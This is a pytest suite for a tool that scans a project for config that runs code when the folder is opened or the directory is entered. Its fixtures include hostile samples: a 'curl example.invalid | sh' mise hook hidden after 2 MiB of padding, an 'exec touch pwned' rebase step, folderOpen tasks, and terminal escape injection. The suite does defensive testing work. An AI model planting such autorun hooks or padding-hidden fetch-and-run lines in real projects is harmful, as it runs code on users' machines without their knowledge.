"""A review reads hostile content: it never follows a link out, never blocks, never raises."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from cloister_cli.session.review import Finding, ReviewTarget, review
from cloister_core.errors import CloisterError
from tests.cli.session.review.conftest import Project, init_repo, of_kind

MARKER = "marker-of-the-humans-own-file"


def _dump(findings: list[Finding]) -> str:
    return json.dumps([item.to_json() for item in findings])


def _outside_file(directory: Path, name: str, text: str) -> Path:
    path = directory / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def test_links_out_are_never_followed(project: Project) -> None:
    out = project.outside
    config = _outside_file(
        out, "config", f"[core]\n\tfsmonitor = {MARKER}\n[alias]\n\tx = !{MARKER}\n"
    )
    script = _outside_file(out, "envrc", f"echo {MARKER}\n")
    modules = _outside_file(out, "gitmodules", f'[submodule "x"]\n\tpath = x\n\turl = {MARKER}\n')
    tasks = _outside_file(
        out,
        "tasks.json",
        f'{{"tasks": [{{"command": "{MARKER}", "runOptions": {{"runOn": "folderOpen"}}}}]}}\n',
    )
    workspace = _outside_file(
        out,
        "app.code-workspace",
        f'{{"tasks": {{"tasks": [{{"command": "{MARKER}", '
        '"runOptions": {"runOn": "folderOpen"}}]}}\n',
    )
    mise = _outside_file(out, "mise.toml", f'[hooks]\nenter = "{MARKER}"\n')
    attributes = _outside_file(out, "attributes", f"* filter={MARKER}\n")
    other_repo = _outside_file(out, "repo/.git/config", f"[core]\n\tpager = {MARKER}\n").parent

    sub = project.nested("sub")
    (sub / ".git" / "config").unlink()
    (sub / ".git" / "config").symlink_to(config)
    project.link(".envrc", script)
    project.link(".gitmodules", modules)
    project.link(".vscode/tasks.json", tasks)
    project.link("docs/.vscode/tasks.json", tasks)
    project.link("app.code-workspace", workspace)
    project.link("mise.toml", mise)
    project.link(".config/mise/config.toml", mise)
    project.link(".gitattributes", attributes)
    project.link(".pre-commit-config.yaml", script)
    project.link("other/.git", other_repo)
    project.write("gitfile/.git", f"gitdir: {other_repo}\n")
    project.link("inside", out)  # a linked directory: nothing below it is reviewed
    _outside_file(out, ".envrc", f"echo {MARKER}\n")

    found = project.review()

    assert MARKER not in _dump(found)
    assert {item.path for item in of_kind(found, "outside-symlink")} == {
        ".envrc",
        ".gitmodules",
        ".vscode/tasks.json",
        "docs/.vscode/tasks.json",
        "app.code-workspace",
        "mise.toml",
        ".config/mise/config.toml",
        ".gitattributes",
        ".pre-commit-config.yaml",
        "other/.git",
        "inside",
    }
    assert {(item.path, item.severity) for item in of_kind(found, "nested-repository")} == {
        ("sub/.git/config", "reads-outside"),
        ("other/", "reads-outside"),
        ("gitfile/", "reads-outside"),
    }
    for kind in ("vscode-task", "mise", "gitmodules"):
        assert of_kind(found, kind) == [], kind


def test_the_git_directory_is_never_reviewed(project: Project) -> None:
    """It is the human's (the agent commits to a git directory of its own)."""
    project.link(".git/packed-refs", project.outside / "secret")
    os.mkfifo(project.root / ".git" / "MERGE_HEAD")
    project.write(".git/objects/info/alternates", f"{project.outside}\n")
    project.write(".git/info/attributes", "* filter=evil\n")
    project.write(".git/rebase-merge/git-rebase-todo", "exec touch pwned\n")
    project.write(".git/.envrc", "echo hi\n")
    project.write(".git/mise.toml", '[hooks]\nenter = "x"\n')
    assert project.review() == []


@pytest.mark.timeout(60)
def test_fifos_never_block(project: Project) -> None:
    fifos = (
        ".envrc",
        ".gitattributes",
        ".vscode/tasks.json",
        "a/.vscode/tasks.json",
        "app.code-workspace",
        "mise.toml",
        ".mise/config.toml",
        ".tool-versions",
        ".gitmodules",
        "a/.git",
    )
    for relative in fifos:
        path = project.root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)
    sub = project.nested("sub")
    (sub / ".git" / "config").unlink()
    os.mkfifo(sub / ".git" / "config")
    project.link("linked.code-workspace", "app.code-workspace")  # a link to a FIFO

    found = project.review()

    assert [(i.kind, i.path, i.severity) for i in found] == [
        ("nested-repository", "sub/.git/config", "review")
    ]


def test_terminal_control_characters_are_escaped(project: Project) -> None:
    project.nested("sub", ("core.pager", "less\x1b]0;pwned\x07"))
    project.write("evil\x1b[2Jdir/.envrc", "echo \u202ehi\n")
    text = _dump(project.review())
    for character in ("\x1b", "\x07", "\u202e"):
        assert character not in text
        assert character not in json.loads(text).__repr__()
    assert "\\\\x1b" in text  # shown as an escape


def test_a_big_file_is_read_in_part(project: Project) -> None:
    project.write(".envrc", "echo hi\n" + "#" * (2 * 1024 * 1024))
    first = of_kind(project.review(), "envrc")[0].fingerprint
    with (project.root / ".envrc").open("a", encoding="utf-8") as handle:
        handle.write("#")  # beyond the first MiB: the size still changes the fingerprint
    assert of_kind(project.review(), "envrc")[0].fingerprint != first


def test_unreadable_files_do_not_raise(project: Project) -> None:
    if os.geteuid() == 0:
        pytest.skip("root reads every file")
    path = project.write(".envrc", "echo hi\n")
    path.chmod(0)
    assert [item.path for item in of_kind(project.review(), "envrc")] == [".envrc"]


def test_a_missing_work_tree_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(CloisterError, match="cannot review"):
        review(ReviewTarget(tmp_path / "gone", None, None))
    (tmp_path / "file").write_text("", encoding="utf-8")
    with pytest.raises(CloisterError, match="not a directory"):
        review(ReviewTarget(tmp_path / "file", None, None))


def test_without_git_only_the_work_tree_is_reviewed(tmp_path: Path) -> None:
    tree = tmp_path / "plain"
    init_repo(tree / "inner")
    (tree / "inner" / ".git" / "config").write_text("[core]\n\tpager = x\n", encoding="utf-8")
    (tree / ".envrc").write_text("echo\n", encoding="utf-8")
    (tree / "objects").mkdir()
    found = review(ReviewTarget(tree, None, None))
    assert sorted(item.kind for item in found) == ["envrc", "nested-repository"]


def test_a_hostile_tasks_file_does_not_raise(project: Project) -> None:
    project.write(".vscode/tasks.json", "[" * 200_000 + "folderOpen")
    (item,) = of_kind(project.review(), "vscode-task")
    assert item.severity == "runs-code"
    assert "does not parse" in item.summary
    assert all(len(line) <= 300 for line in item.details)


def test_hostile_mise_files_do_not_raise(project: Project) -> None:
    project.write("a/mise.toml", "x = " + "[" * 100_000 + "\n")  # deeper than any parser
    deep = "[" * 200 + "\"{{ exec(command='deep') }}\"" + "]" * 200
    project.write("b/mise.toml", f"[env]\nX = {deep}\n")  # parses, and is walked to the end
    project.write("c/mise.toml", 'x = "' + "{{ exec(command='" * 60_000 + '"\n')
    found = {item.path: item for item in of_kind(project.review(), "mise")}
    assert found["a/mise.toml"].severity == "review"
    assert "does not parse here" in found["a/mise.toml"].summary
    assert found["b/mise.toml"].summary.startswith("mise runs `deep` (a template's exec)")
    assert found["c/mise.toml"].severity == "runs-code"


@pytest.mark.timeout(60)
def test_what_hides_past_the_first_mib_is_not_missed(project: Project) -> None:
    """Only the first MiB is read: a config longer than that is one to look at."""
    padding = "#" * (2 * 1024 * 1024) + "\n"
    project.write("mise.toml", padding + '[hooks]\nenter = "curl example.invalid | sh"\n')
    project.write(
        "app.code-workspace",
        '{"tasks": {"tasks": [\n'
        + " " * (2 * 1024 * 1024)
        + '{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}}\n',
    )
    found = {item.kind: item for item in project.review()}
    assert (found["mise"].severity, found["mise"].path) == ("review", "mise.toml")
    assert "larger than 1 MiB" in found["mise"].summary
    assert (found["vscode-task"].severity, found["vscode-task"].path) == (
        "runs-code",  # what is not read may run: fail closed
        "app.code-workspace",
    )
    assert "larger than 1 MiB" in found["vscode-task"].summary


def test_padding_does_not_hide_a_template(project: Project) -> None:
    padding = ", ".join('"x"' for _ in range(50_000))
    project.write(
        "mise.toml", f"[vars]\npad = [{padding}]\n[env]\nX = \"{{{{ exec(command='late') }}}}\"\n"
    )
    assert [item.summary for item in of_kind(project.review(), "mise")] == [
        "mise runs `late` (a template's exec) when you enter the project (mise activated)"
    ]
